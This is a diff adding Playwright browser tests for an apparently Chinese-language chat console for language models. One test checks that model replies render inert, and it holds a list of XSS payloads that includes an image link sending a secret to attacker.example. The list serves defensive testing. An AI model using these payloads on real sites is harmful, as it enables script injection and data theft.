@@ -1,0 +1,181 @@
+"""The chat page, as a person uses it."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.browser.conftest import PHONE, Open
+from tests.fakes import Script, card
+
+pytest.importorskip("playwright.sync_api")
+
+from playwright.sync_api import Page, expect
+
+HOSTILE = (
+    "<img src=x onerror=\"document.title='ran'\">",
+    "<script>document.title='ran'</script>",
+    "[press](javascript:document.title='ran')",
+    "![](https://attacker.example/?q=secret)",
+    "<iframe src=https://attacker.example></iframe>",
+    "<svg/onload=document.title='ran'>",
+    "```html\n<b onmouseover=document.title='ran'>x</b>\n```",
+)
+
+
+def say(page: Page, text: str) -> None:
+    page.fill(".composer textarea", text)
+    page.keyboard.press("Enter")
+
+
+def test_a_reply_is_streamed_with_its_speed(console: Open) -> None:
+    """The text, then how fast it came; the address keeps no token."""
+    page = console(Script(pieces=("下雨", "天，", "在家吧。")))
+
+    say(page, "今天下雨了")
+
+    expect(page.locator(".reply .text")).to_have_text("下雨天，在家吧。")
+    expect(page.locator(".reply .stats")).to_contain_text("首字")
+    assert "token" not in page.url
+    assert page.live.engine.prompts[-1] == [{"role": "user", "content": "今天下雨了"}]
+
+
+def test_the_next_turn_has_the_turns_before(console: Open) -> None:
+    """And a reload shows them again."""
+    page = console(Script(pieces=("一",)), Script(pieces=("二",)))
+    say(page, "第一句")
+    expect(page.locator(".reply .stats")).to_contain_text("token")
+    say(page, "第二句")
+    expect(page.locator(".reply .text").nth(1)).to_have_text("二")
+
+    assert [each["content"] for each in page.live.engine.prompts[-1]] == ["第一句", "一", "第二句"]
+    page.reload()
+    expect(page.locator(".bubble")).to_have_text(["第一句", "第二句"])
+
+
+def test_stop_ends_the_reply_on_the_server_too(console: Open) -> None:
+    """What was written stays; the engine is told to stop."""
+    page = console(Script(pieces=("开头", "后面"), hold_at=1))
+    say(page, "说")
+    expect(page.locator(".reply .text")).to_have_text("开头")
+
+    page.click("[aria-label='停止']")
+
+    expect(page.locator(".reply .stats")).to_have_text("已停止")
+    expect(page.locator("[aria-label='发送']")).to_be_visible()
+    page.wait_for_function("() => true")
+    assert page.live.engine.aborted
+
+
+def test_two_models_answer_side_by_side(console: Open) -> None:
+    """One prompt, two requests, each to its own model."""
+    page = console(Script(pieces=("甲",)), Script(pieces=("乙",)))
+    page.click("[aria-label='再加一个模型并排比较']")
+    say(page, "你好")
+
+    expect(page.locator(".turn.of-2 .reply")).to_have_count(2)
+    expect(page.locator(".reply .stats").nth(1)).to_contain_text("token")
+    assert {each.model for each in page.live.engine.requests} == {"cat", "pocket"}
+
+
+def test_a_new_adapter_is_in_the_picker_without_a_reload(console: Open) -> None:
+    """Within moments of its being served."""
+    page = console()
+    expect(page.locator(".picker option")).to_have_count(3)
+
+    page.live.engine.cards.append(card("poet", "pocket"))
+
+    expect(page.locator(".picker option")).to_have_count(4)
+
+
+def test_system_prompt_and_sampling_are_sent(console: Open) -> None:
+    """And only those that were changed."""
+    page = console()
+    page.click("[aria-label='设置']")
+    page.fill(".panel textarea", "你是一只猫。")
+    page.fill(".panel label:has-text('top_k') input", "5")
+    say(page, "你好")
+    expect(page.locator(".reply .stats")).to_contain_text("token")
+
+    assert page.live.engine.prompts[-1][0] == {"role": "system", "content": "你是一只猫。"}
+    assert page.live.engine.requests[-1].sampling.top_k == 5
+    assert page.live.engine.requests[-1].sampling.temperature == 1.0
+
+
+def test_a_question_can_be_changed_and_asked_again(console: Open) -> None:
+    """What came after it is dropped; regenerating asks the same again."""
+    page = console(*(Script(pieces=(text,)) for text in "一二三"))
+    say(page, "旧问题")
+    expect(page.locator(".reply .text")).to_have_text("一")
+    page.locator(".turn.user [aria-label='编辑']").click()
+    page.fill(".editing textarea", "新问题")
+    page.click("text=重新发送")
+    expect(page.locator(".reply .text")).to_have_text("二")
+    page.click("[aria-label='重新生成']")
+
+    expect(page.locator(".reply .text")).to_have_text("三")
+    assert [prompt[-1]["content"] for prompt in page.live.engine.prompts] == [
+        "旧问题",
+        "新问题",
+        "新问题",
+    ]
+
+
+def test_a_conversation_is_exported(console: Open, tmp_path: Path) -> None:
+    """As JSON with OpenAI's messages."""
+    page = console(Script(pieces=("好",)))
+    say(page, "你好")
+    expect(page.locator(".reply .stats")).to_contain_text("token")
+
+    with page.expect_download() as saved:
+        page.click("[aria-label='导出为 JSON']")
+
+    saved.value.save_as(tmp_path / "saved.json")
+    exported = json.loads((tmp_path / "saved.json").read_text(encoding="utf-8"))
+    assert [each["content"] for each in exported["messages"]] == ["你好", "好"]
+
+
+def test_what_a_model_writes_is_inert(console: Open) -> None:
+    """Markup, scripts, foreign images and links stay text: nothing runs, nothing is fetched."""
+    page = console(Script(pieces=("\n\n".join(HOSTILE),)))
+    say(page, HOSTILE[0])
+    expect(page.locator(".reply .stats")).to_contain_text("token")
+
+    assert page.title() != "ran"
+    shown = page.locator(".reply .text")
+    for each in HOSTILE[:6]:
+        expect(shown).to_contain_text(each)
+    assert shown.locator("img, script, iframe, svg[onload], a").count() == 0
+
+
+def test_a_phone_has_everything_within_its_width(console: Open) -> None:
+    """390 pixels wide: nothing is cut off, and the list of conversations can be opened."""
+    page = console(Script(pieces=("好" * 200,)), viewport=PHONE)
+    say(page, "你好")
+    expect(page.locator(".reply .stats")).to_contain_text("token")
+
+    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
+    page.click("button[aria-label='对话列表']")
+    expect(page.locator(".conversations .plain")).to_be_visible()
+
+
+def test_the_language_can_be_changed(console: Open) -> None:
+    """From Chinese to English, kept over a reload."""
+    page = console()
+    expect(page.locator(".rail")).to_contain_text("聊天")
+    page.click("[aria-label='切换到 English']")
+    expect(page.locator(".rail")).to_contain_text("Chat")
+    page.reload()
+    expect(page.locator(".rail")).to_contain_text("Chat")
+    assert page.locator("html").get_attribute("lang") == "en"
+
+
+def test_signing_out_shuts_the_console(console: Open) -> None:
+    """The sign-in is shown, and the token lets in again."""
+    page = console(language="en")
+    page.click("[aria-label='Sign out']")
+    page.fill("[name=key]", page.live.serving.token)
+    page.click("button.primary")
+    expect(page.locator(".rail")).to_be_visible()
